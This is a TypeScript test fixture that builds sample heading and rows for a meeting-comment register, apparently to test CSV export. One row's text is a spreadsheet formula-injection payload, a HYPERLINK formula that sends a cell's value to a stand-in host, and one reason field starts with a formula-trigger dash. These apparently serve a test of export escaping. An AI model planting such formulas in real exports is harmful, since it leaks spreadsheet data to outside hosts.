import type { RegisterHeading, RegisterRow } from '../src/index.js';

/** The heading of the register of CWG-WSIS&SDG 34's summary; `changes` replace fields. */
export function registerHeading(changes: Partial<RegisterHeading> = {}): RegisterHeading {
  return {
    meetingSymbol: 'S19-CWGWSIS34',
    meetingTitle: 'Council Working Group on WSIS & SDG, 34th meeting',
    documentLabel: 'S19-CWGWSIS34-C-0001 Rev.1',
    generatedAt: '2019-09-27T08:05:31.412Z',
    ...changes,
  };
}

/** A row: an open comment on 8.2.1.1 unless `changes` say otherwise. */
export function registerRow(changes: Partial<RegisterRow> = {}): RegisterRow {
  return {
    number: 1,
    type: 'comment',
    paragraph: '8.2.1.1',
    author: 'Ana Silva',
    text: 'Please cite the Council decision that set these deadlines.',
    disposition: 'open',
    decidedBy: null,
    decidedAt: null,
    reason: null,
    ...changes,
  };
}

/**
 * A register with every type and disposition, a heading's item (no paragraph), text that CSV
 * must quote (commas, quotes, line breaks), a formula a spreadsheet would run, and a comment
 * long enough to wrap over many lines of its cell.
 */
export function registerRows(): RegisterRow[] {
  const decided = { decidedBy: 'Vladimir Minkin', decidedAt: '2019-09-26T10:15:00Z' };
  return [
    registerRow(),
    registerRow({
      number: 2,
      type: 'suggestion',
      paragraph: '8.2.1.3',
      author: 'Ben Okafor',
      text: 'whose deadlines have passed',
      disposition: 'accepted',
      ...decided,
      reason: 'Clearer, and agreed in the room.',
    }),
    registerRow({
      number: 3,
      type: 'suggestion',
      paragraph: '4',
      author: 'Chen Wei',
      text: 'Update on resolutions, decisions and "WSIS Action Lines", 2019',
      disposition: 'rejected',
      ...decided,
      reason: 'The title follows the agenda.',
    }),
    registerRow({
      number: 4,
      paragraph: null,
      author: 'José Müller',
      text: 'The heading should name the meeting.\nSee the previous summary.',
      disposition: 'noted',
      ...decided,
      reason: null,
    }),
    registerRow({
      number: 5,
      author: 'Chen Wei',
      text: '=HYPERLINK("http://example.com/?"&A1,"details")',
      disposition: 'resolved',
      decidedBy: 'Chen Wei',
      decidedAt: '2019-09-26T11:40:12.500Z',
      reason: '-withdrawn by the author',
    }),
    registerRow({
      number: 6,
      paragraph: '8.2.1.1.10',
      author: 'Fatima Al-Hassan',
      text: `The secretariat is invited to report ${'on the implementation of every activity of the action plan, '.repeat(8)}at the next meeting.`,
    }),
  ];
}
